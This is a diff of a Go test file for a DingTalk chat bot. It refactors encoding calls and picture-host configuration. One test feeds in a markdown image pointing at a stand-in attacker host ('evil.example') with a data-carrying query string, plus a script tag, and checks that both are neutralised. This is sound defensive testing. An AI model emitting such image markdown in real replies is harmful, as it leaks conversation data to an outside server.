@@ -11,6 +11,7 @@ import (
 
 	"ebb/bot/dingtalk/card"
 	"ebb/bot/dingtalk/markdown"
+	"ebb/bot/dingtalk/request"
 	"ebb/bot/dingtalk/value"
 	"ebb/sessions"
 )
@@ -52,7 +53,7 @@ func TestEscapedLenIsTheEncodersLength(t *testing.T) {
 	t.Parallel()
 	rapid.Check(t, func(r *rapid.T) {
 		s := rapid.OneOf(rapid.String(), rapid.Just("\x00\x1f\x7f\"\\\n\r\t\b\f\u2028<>&\xff中😀")).Draw(r, "s")
-		b, err := encode(s)
+		b, err := request.Encode(s)
 		if err != nil {
 			r.Fatal(err)
 		}
@@ -81,8 +82,8 @@ func TestEveryRequestIsWithinDingTalksBounds(t *testing.T) {
 	} {
 		parts := compose(sessions.Reply{Text: text, Target: sessions.Target{ConversationType: sessions.Group, Mentions: people}})
 		for i, m := range parts {
-			hook, _ := encode(webhookBody{MsgType: "markdown", Markdown: markdownBody{m.title, m.withMentions()}, At: &atBody{UserIDs: m.ids}, MsgUUID: strings.Repeat("u", 64)})
-			param, _ := encode(markdownBody{m.title, m.withNames()})
+			hook, _ := request.Encode(webhookBody{MsgType: "markdown", Markdown: markdownBody{m.title, m.withMentions()}, At: &atBody{UserIDs: m.ids}, MsgUUID: strings.Repeat("u", 64)})
+			param, _ := request.Encode(markdownBody{m.title, m.withNames()})
 			if len(hook) > 15_000 || len(param) > 15_000 {
 				t.Errorf("%s, part %d: %d bytes by webhook, %d by the open API", name, i, len(hook), len(param))
 			}
@@ -156,14 +157,14 @@ func TestPartsKeepTheirIndentation(t *testing.T) {
 func TestPicturesOfOtherHostsAreLinks(t *testing.T) {
 	t.Parallel()
 	const evil = "![s](https://evil.example/p?q=FACT)"
-	tr := &Transport{config: Config{Pictures: markdown.PicturesOf([]string{"img.example.com"})}}
+	pictures := markdown.PicturesOf([]string{"img.example.com"})
 	one := sessions.Reply{Text: "图：" + evil + " ![t](https://img.example.com/a.png) <script>x</script>"}
 	for name, o := range map[string]sessions.Outgoing{
 		"one":    {Reply: one},
 		"card":   {Reply: sessions.Reply{Text: one.Text, Target: sessions.Target{Card: "track"}}},
 		"joined": {Reply: sessions.Reply{Target: sessions.Target{ConversationType: sessions.Group}}, Joined: []sessions.Reply{one, one}},
 	} {
-		parts := tr.config.partsOf(o)
+		parts := partsOf(pictures, o)
 		for _, text := range []string{parts[0].withMentions(), parts[0].withNames(), parts[0].onCard()} {
 			if strings.Contains(text, evil) || strings.Contains(text, "<script") || !strings.Contains(text, "[s（evil.example）](https://evil.example/p?q=FACT)") ||
 				!strings.Contains(text, "![t](https://img.example.com/a.png)") {
